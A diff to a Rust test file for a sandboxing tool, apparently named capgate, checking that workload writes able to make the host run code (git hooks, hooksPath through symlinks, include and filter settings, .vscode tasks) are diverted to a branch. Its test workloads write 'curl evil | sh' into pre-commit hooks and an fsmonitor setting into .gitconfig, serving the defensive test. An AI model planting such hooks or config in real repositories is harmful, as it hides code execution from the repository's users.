@@ -1515,38 +1515,105 @@ fn copy_back_applies_the_work_and_diverts_hooks_to_a_branch() {
     assert!(!ws.join(".envrc").exists());
 }
 
-/// What the host itself makes a runner is diverted too: its core.hooksPath inside the
-/// tree, and a runner path it keeps as a link (.vscode -> editor), where the workload's
-/// write lands beside the link's name. A planted git directory (HEAD) is not applied.
+/// What the host itself makes a runner is diverted too, whether it exists yet or not:
+/// paths its git config names (the hooks path, reached through a link the workload
+/// replaces; an include that does not exist yet; one that does, whose removal is
+/// diverted; a filter's program), and runner paths it keeps as links at any depth
+/// (.vscode -> editor, app/.vscode -> ../editor2), where the workload's write lands beside
+/// the link's name. A planted git directory (HEAD) is not applied. The harmless twin, a
+/// build script, is.
 #[test]
 fn copy_back_diverts_what_the_hosts_config_and_links_make_runners() {
     let env = setup();
     let ws = env.path("ws");
-    std::fs::create_dir_all(ws.join("scripts/hooks")).unwrap();
-    std::fs::create_dir_all(ws.join("editor")).unwrap();
+    for d in ["scripts", "editor", "editor2", "app", "tools/hooks", "conf"] {
+        std::fs::create_dir_all(ws.join(d)).unwrap();
+    }
+    std::fs::write(ws.join("conf/inc"), "[user]\n\tname = x\n").unwrap();
     std::os::unix::fs::symlink("editor", ws.join(".vscode")).unwrap();
+    std::os::unix::fs::symlink("../editor2", ws.join("app/.vscode")).unwrap();
+    std::os::unix::fs::symlink("tools", ws.join("bin")).unwrap();
     git(&ws, &["init", "-q", "-b", "main"]);
-    git(&ws, &["config", "core.hooksPath", "scripts/hooks"]);
+    git(&ws, &["config", "core.hooksPath", "bin/hooks"]);
+    git(&ws, &["config", "--add", "include.path", "../conf/inc"]);
+    git(&ws, &["config", "--add", "include.path", "../.gitconfig"]);
+    git(
+        &ws,
+        &["config", "filter.strip.clean", "./tools2/clean.sh --quiet"],
+    );
     git(&ws, &["add", "-A"]);
     git(&ws, &["commit", "-q", "-m", "init"]);
     let o = env.copy_back(
         "cb4",
-        "echo 'curl evil | sh' > scripts/hooks/pre-commit; echo '{}' > .vscode/tasks.json; \
+        "rm bin; mkdir -p bin/hooks; echo 'curl evil | sh' > bin/hooks/pre-commit; \
+         echo '{}' > .vscode/tasks.json; echo '{}' > app/.vscode/tasks.json; \
+         rm -r conf; printf '[core]\\n\\tfsmonitor = evil\\n' > .gitconfig; \
+         mkdir -p tools2; echo evil > tools2/clean.sh; \
          echo ok > scripts/build.sh; mkdir -p docs/objects docs/refs; \
          echo 'ref: refs/heads/main' > docs/HEAD",
     );
     let (_, stderr) = out(&o);
     assert_eq!(o.status.code(), Some(0), "{stderr}");
-    assert!(!ws.join("scripts/hooks/pre-commit").exists(), "{stderr}");
+    assert!(
+        std::fs::symlink_metadata(ws.join("bin"))
+            .unwrap()
+            .is_symlink(),
+        "{stderr}"
+    );
+    assert!(!ws.join("tools/hooks/pre-commit").exists(), "{stderr}");
     assert!(!ws.join("editor/tasks.json").exists(), "{stderr}");
+    assert!(!ws.join("editor2/tasks.json").exists(), "{stderr}");
+    assert!(ws.join("conf/inc").exists(), "{stderr}");
+    assert!(!ws.join(".gitconfig").exists(), "{stderr}");
+    assert!(!ws.join("tools2/clean.sh").exists(), "{stderr}");
     assert!(!ws.join("docs/HEAD").exists(), "{stderr}");
     assert_eq!(
         std::fs::read_to_string(ws.join("scripts/build.sh")).unwrap(),
         "ok\n"
     );
+    let diverted = git(&ws, &["diff", "--name-only", "HEAD", "capgate/cb4"]);
+    for path in [
+        ".gitconfig",
+        "bin/hooks/pre-commit",
+        "editor/tasks.json",
+        "tools2/clean.sh",
+    ] {
+        assert!(diverted.lines().any(|l| l == path), "{path} in {diverted}");
+    }
+}
+
+/// A workspace below the top of its repository: the repository's hooks path is taken
+/// from the top, and a hook written through the workspace is still diverted.
+#[test]
+fn copy_back_in_a_subdirectory_of_a_repository_diverts_its_hooks() {
+    let env = setup();
+    let top = env.path("ws");
+    std::fs::create_dir_all(top.join("pkg/hooks")).unwrap();
+    std::fs::write(top.join("pkg/hooks/README"), "hooks\n").unwrap();
+    git(&top, &["init", "-q", "-b", "main"]);
+    git(&top, &["config", "core.hooksPath", "pkg/hooks"]);
+    git(&top, &["add", "-A"]);
+    git(&top, &["commit", "-q", "-m", "init"]);
+    let pkg = top.join("pkg");
+    let o = env.capgate(
+        &[
+            "run",
+            "--copy-back",
+            "--workspace",
+            pkg.to_str().unwrap(),
+            "--",
+            "sh",
+            "-c",
+            "echo 'curl evil | sh' > hooks/pre-commit; echo ok > main.txt",
+        ],
+        None,
+    );
+    let (_, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stderr}");
+    assert!(!pkg.join("hooks/pre-commit").exists(), "{stderr}");
     assert_eq!(
-        git(&ws, &["diff", "--name-only", "HEAD", "capgate/cb4"]),
-        "docs/HEAD\neditor/tasks.json\nscripts/hooks/pre-commit\n"
+        std::fs::read_to_string(pkg.join("main.txt")).unwrap(),
+        "ok\n"
     );
 }
 
